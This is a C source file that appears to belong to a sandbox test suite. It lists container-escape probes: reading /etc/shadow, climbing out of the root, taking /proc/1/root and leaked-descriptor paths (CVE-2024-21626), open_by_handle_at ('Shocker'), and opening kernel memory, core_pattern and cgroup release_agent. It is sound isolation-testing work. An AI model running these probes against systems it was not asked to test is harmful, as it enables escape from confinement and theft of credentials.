// Files of the host: reading them, by every way that leads around a root.

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attacks.h"

#define TRY_PATHS(flags, ...) open_any((const char *const[]){__VA_ARGS__, NULL}, flags)

static void open_one(const char *path, int flags) { judge("open", open(path, flags)); }

/// The target's path behind `prefix`.
static const char *target_behind(const char *prefix) {
    static char path[PATH_MAX];
    snprintf(path, sizeof path, "%s%s", prefix, target("TARGET_FILE"));
    return path;
}

static void read_secret(void) { open_one(target("TARGET_FILE"), O_RDONLY); }

static void read_accounts(void) {
    TRY_PATHS(O_RDONLY, "/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/resolv.conf");
}

static void list_homes(void) { TRY_PATHS(O_RDONLY | O_DIRECTORY, "/root", "/home", "/var"); }

static void list_system(void) {
    TRY_PATHS(O_RDONLY | O_DIRECTORY, "/sys", "/run", "/boot", "/mnt");
}

static void climb(void) {
    for (int i = 0; i < 64; i++) {
        if (chdir("..") != 0) refused("chdir");
    }
    open_one(target("TARGET_FILE") + 1, O_RDONLY);
}

static void link_to_secret(void) {
    if (symlink(target("TARGET_FILE"), "./attack-link") != 0) refused("symlink");
    open_one("./attack-link", O_RDONLY);
}

static void own_root(void) { open_one(target_behind("/proc/self/root"), O_RDONLY); }

static void supervisor_root(void) { open_one(target_behind("/proc/1/root"), O_RDONLY); }

// CVE-2024-21626: the working folder lay in the host.
static void own_working_folder(void) {
    open_one(target_behind("/proc/self/cwd/../../../../../../../.."), O_RDONLY);
}

static void supervisor_working_folder(void) {
    open_one(target_behind("/proc/1/cwd/../../../../../../../.."), O_RDONLY);
}

// CVE-2024-21626 again: a folder of the host was left open.
static void leaked_folder(void) {
    const char *path = target_behind("../../../../../../../..");
    int error = EBADF;
    for (int fd = 0; fd < 1024; fd++) {
        if (openat(fd, path, O_RDONLY) >= 0) reached("openat");
        if (openat(fd, strrchr(path, '/') + 1, O_RDONLY) >= 0) reached("openat");
        if (errno != EBADF && errno != ENOTDIR) error = errno;
    }
    refused_with("openat", error);
}

static void supervisor_descriptors(void) {
    DIR *descriptors = opendir("/proc/1/fd");
    if (descriptors == NULL) refused("opendir");
    for (struct dirent *entry; (entry = readdir(descriptors)) != NULL;) {
        char path[PATH_MAX];
        snprintf(path, sizeof path, "/proc/1/fd/%s", entry->d_name);
        if (entry->d_name[0] != '.' && open(path, O_RDONLY | O_NONBLOCK) >= 0) reached(path);
    }
    refused_with("open", EACCES);
}

// "Shocker": file handles name files of a file system whatever the root is.
static void open_by_handle(void) {
    struct {
        struct file_handle handle;
        unsigned char inode[8];
    } root = {.handle = {.handle_bytes = 8, .handle_type = 1}, .inode = {2}};
    const int mount = open("/", O_RDONLY | O_DIRECTORY);
    judge_granted(
        "open_by_handle_at", syscall(SYS_open_by_handle_at, mount, &root, O_RDONLY), ESTALE);
}

static void name_to_handle(void) {
    struct {
        struct file_handle handle;
        unsigned char room[128];
    } root = {.handle = {.handle_bytes = 128}};
    int mount = 0;
    judge(
        "name_to_handle_at", syscall(SYS_name_to_handle_at, AT_FDCWD, "/", &root, &mount, 0));
}

static void open_how(void) {
    const struct open_how how = {.flags = O_RDONLY};
    judge("openat2", syscall(SYS_openat2, AT_FDCWD, "/", &how, sizeof how));
}

static void open_devices(void) {
    TRY_PATHS(
        O_RDWR, "/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/loop-control", "/dev/kvm",
        "/dev/fuse", "/dev/net/tun", "/dev/tty", "/dev/console", "/dev/userfaultfd");
}

static void open_kernel_memory(void) {
    TRY_PATHS(
        O_RDONLY, "/proc/kcore", "/proc/kallsyms", "/proc/iomem", "/proc/kpagecount",
        "/sys/kernel/debug", "/sys/kernel/tracing");
}

static void open_kernel_settings(void) {
    TRY_PATHS(
        O_WRONLY, "/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/modprobe", "/proc/sys/vm/overcommit_memory", "/proc/sys/kernel/hostname");
}

static void open_control_groups(void) {
    TRY_PATHS(
        O_WRONLY, "/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/memory/release_agent",
        "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs");
}

static void open_supervisor_memory(void) { open_one("/proc/1/mem", O_RDWR); }

const struct attack file_attacks[] = {
    {"read-secret", read_secret},
    {"read-accounts", read_accounts},
    {"list-homes", list_homes},
    {"list-system", list_system},
    {"climb-out", climb},
    {"link-to-secret", link_to_secret},
    {"own-root-link", own_root},
    {"supervisor-root-link", supervisor_root},
    {"own-working-folder", own_working_folder},
    {"supervisor-working-folder", supervisor_working_folder},
    {"leaked-folder", leaked_folder},
    {"supervisor-descriptors", supervisor_descriptors},
    {"open-by-handle", open_by_handle},
    {"name-to-handle", name_to_handle},
    {"open-how", open_how},
    {"open-devices", open_devices},
    {"open-kernel-memory", open_kernel_memory},
    {"open-kernel-settings", open_kernel_settings},
    {"open-control-groups", open_control_groups},
    {"open-supervisor-memory", open_supervisor_memory},
    {NULL, NULL}};
